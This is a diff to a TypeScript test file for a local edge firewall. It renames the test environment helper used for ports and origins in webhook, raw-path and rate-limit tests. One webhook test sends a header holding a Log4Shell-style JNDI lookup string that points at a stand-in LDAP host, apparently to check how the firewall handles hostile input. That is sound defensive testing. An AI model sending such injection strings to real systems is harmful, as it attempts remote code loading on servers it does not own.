@@ -4,12 +4,12 @@ import { makeFirewall, type FirewallRequest } from "#infra/local/edge/firewall.t
 import { readPaymentStatus, readVoiceCall, sendContactMessage } from "#shared/contract/api.ts";
 import { functionEndpoints } from "#shared/contract/endpoints.ts";
 import { errorBodySchema } from "#shared/contract/error-body.ts";
-import { edition } from "#test/support/edition/worker-edition.ts";
+import { local } from "#test/support/local-environment/worker-environment.ts";
 
 /** Sends the path as it is; `fetch` would tidy it up. */
 const send = (method: string, path: string, headers: Record<string, string> = {}) =>
   new Promise<{ readonly status: number | undefined; readonly body: string }>((resolve, reject) => {
-    const sent = request({ port: edition.port, method, path, headers }, (response) => {
+    const sent = request({ port: local.port, method, path, headers }, (response) => {
       const chunks: Buffer[] = [];
       response.on("data", (chunk: Buffer) => chunks.push(chunk));
       response.on("end", () =>
@@ -52,7 +52,7 @@ test.each(webhooks.slice(0, 1))(
   async ({ path }) => {
     const post = async (bytes: number, text = "") =>
       (
-        await fetch(`${edition.origin}${path}`, {
+        await fetch(`${local.origin}${path}`, {
           method: "POST",
           headers: { "x-note": "${jndi:ldap://x.example/a}" },
           body: text + "x".repeat(bytes),
@@ -80,7 +80,7 @@ test("[OPS-01] [CONT-03] an address above an endpoint's rate gets 429 with Retry
   expect(await admittedOf(1, path, "192.0.2.2")).toBe(1);
   for (const other of functionEndpoints.filter((row) => row.path !== path).slice(0, 1))
     expect(await admittedOf(1, other.path, "192.0.2.1")).toBe(1);
-  const refused = await fetch(`${edition.origin}${path}`, {
+  const refused = await fetch(`${local.origin}${path}`, {
     headers: { "CloudFront-Viewer-Address": "192.0.2.1:4712" },
   });
   expect([refused.status, refused.headers.get("retry-after")]).toEqual([
